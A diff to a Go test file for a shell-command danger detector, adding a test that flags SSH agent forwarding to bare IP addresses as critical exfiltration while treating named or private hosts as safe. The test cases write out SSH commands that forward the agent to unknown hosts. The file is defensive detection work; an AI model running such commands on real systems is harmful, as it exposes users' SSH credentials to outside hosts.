@@ -215,3 +215,17 @@ func TestDNSLabelsBuiltFromOutput(t *testing.T) {
 		`dig api.example.com`,
 	})
 }
+
+// The SSH agent forwarded to a machine known only by its address.
+func TestAgentForwardedToBareAddresses(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, corpusContext, []dangerCase{
+		{`ssh -A root@198.51.100.20`, CategoryExfiltration, "ssh-agent-forwarded-unknown", LevelCritical},
+		{`ssh -o ForwardAgent=yes 203.0.113.9 uptime`, CategoryExfiltration, "ssh-agent-forwarded-unknown", LevelCritical},
+	})
+	checkSafe(t, d, corpusContext, []string{
+		`ssh -A bastion.corp.example.com`,
+		`ssh -A dev@10.0.0.12`,
+		`ssh 198.51.100.20 uptime`,
+	})
+}
